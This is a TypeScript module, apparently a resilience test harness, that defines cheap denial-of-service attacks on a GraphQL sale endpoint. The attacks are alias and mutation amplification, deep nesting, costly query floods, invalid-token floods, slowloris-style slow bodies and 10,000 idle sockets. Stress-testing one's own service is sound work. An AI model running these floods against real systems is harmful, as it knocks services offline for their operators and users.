/** Attacks that are cheap for the attacker. Each runs until it is aborted, at a pace that one laptop sustains. */
import { randomUUID } from 'node:crypto';
import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';

/** Requests per second, from one address. */
const PACE = 50;
/** Pace of documents that are executed and cost as much as one document may. */
const EXPENSIVE_PACE = 20;
const IDLE_SOCKETS = 10_000;
/** Opened at once; more than a listening queue holds would only wait for each other. */
const OPENED_AT_ONCE = 100;
const SLOW_BODIES = 500;

export interface Attack {
  readonly name: string;
  run(url: URL, signal: AbortSignal): Promise<void>;
}

const times = (count: number, part: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => part(index)).join(' ');

export const ATTACKS: readonly Attack[] = [
  documents('20,000 aliases', always(`{ ${times(20_000, (i) => `a${i}:__typename`)} }`)),
  documents(
    '5,000 aliased mutations',
    always(`mutation { ${times(5_000, (i) => `a${i}:createHold(input:{productId:"x"}){hold{id}}`)} }`),
  ),
  documents('depth 20,000', always(`${'{a'.repeat(20_000)}${'}'.repeat(20_000)}`)),
  documents('the most expensive document that is read', () =>
    bodyOf(`{ ${times(110, () => 'hold(id:"a"){id}')} # ${randomUUID()}\n}`),
  ),
  documents('a flood of different documents', () =>
    bodyOf(`query Q${randomUUID().replaceAll('-', '')} { products(first: 1) { edges { node { id name } } } }`),
  ),
  // The most expensive document without a token that `npm run prove -- --only cost` finds.
  documents(
    'the most expensive documents that are executed',
    always(
      `{ ${times(7, (i) => `p${i}: products(first: ${100 - i}) { ...F }`)} } fragment F on ProductConnection { edges { node { availableStock totalStock saleStatus } } }`,
    ),
    undefined,
    EXPENSIVE_PACE,
  ),
  documents(
    'the largest answers that are given',
    always(
      '{ products(first: 100) { edges { node { a: description b: description c: description d: description } } } }',
    ),
    undefined,
    EXPENSIVE_PACE,
  ),
  documents('tokens that do not verify', always('{ __typename }'), () => ({
    authorization: `Bearer a.${randomUUID()}.b`,
  })),
  { name: `${SLOW_BODIES} slow bodies`, run: slowBodies },
  { name: `${IDLE_SOCKETS} idle sockets`, run: idleSockets },
];

const bodyOf = (query: string) => Buffer.from(JSON.stringify({ query }));

/** Built once, because the attacker shares the sale's CPU here, which a real one would not. */
function always(query: string): () => Buffer {
  let body: Buffer | undefined;
  return () => (body ??= bodyOf(query));
}

function documents(
  name: string,
  body: () => Buffer,
  headers: () => Record<string, string> = () => ({}),
  pace = PACE,
): Attack {
  return {
    name,
    run: async (url, signal) => {
      const agent = new Agent({ keepAlive: true, maxSockets: 16 });
      while (!signal.aborted) {
        post(url, agent, body(), headers());
        await pause(1_000 / pace, signal);
      }
      agent.destroy();
    },
  };
}

/** Ignores the answer. */
function post(url: URL, agent: Agent, body: Buffer, headers: Record<string, string>): void {
  request(new URL('/graphql', url), {
    method: 'POST',
    agent,
    headers: { 'content-type': 'application/json', 'content-length': body.length, ...headers },
  })
    .on('response', (response) => response.on('error', () => undefined).resume())
    .on('error', () => undefined)
    .end(body);
}

async function slowBodies(url: URL, signal: AbortSignal): Promise<void> {
  const head =
    'POST /graphql HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n{"query":"';
  const sockets = await openMany(url, SLOW_BODIES, signal, head);
  while (!signal.aborted) {
    for (const socket of sockets) socket.write('x');
    await pause(1_000, signal);
  }
  for (const socket of sockets) socket.destroy();
}

async function idleSockets(url: URL, signal: AbortSignal): Promise<void> {
  const sockets = new Set<Socket>();
  while (!signal.aborted) {
    // Reopens the sockets that the server has closed.
    for (const socket of sockets) if (socket.destroyed) sockets.delete(socket);
    for (const socket of await openMany(url, IDLE_SOCKETS - sockets.size, signal)) sockets.add(socket);
    await pause(500, signal);
  }
  for (const socket of sockets) socket.destroy();
}

async function openMany(url: URL, count: number, signal: AbortSignal, firstBytes = ''): Promise<Socket[]> {
  const sockets: Socket[] = [];
  while (sockets.length < count && !signal.aborted) {
    const some = Array.from({ length: Math.min(OPENED_AT_ONCE, count - sockets.length) }, () => open(url, firstBytes));
    sockets.push(...(await Promise.all(some)));
  }
  return sockets;
}

function open(url: URL, firstBytes: string): Promise<Socket> {
  return new Promise((resolve) => {
    const socket = connect(Number(url.port), url.hostname, () => {
      socket.write(firstBytes);
      resolve(socket);
    });
    socket.on('error', () => resolve(socket)).on('data', () => undefined);
  });
}

const pause = (ms: number, signal: AbortSignal) => sleep(ms, undefined, { signal }).catch(() => undefined);
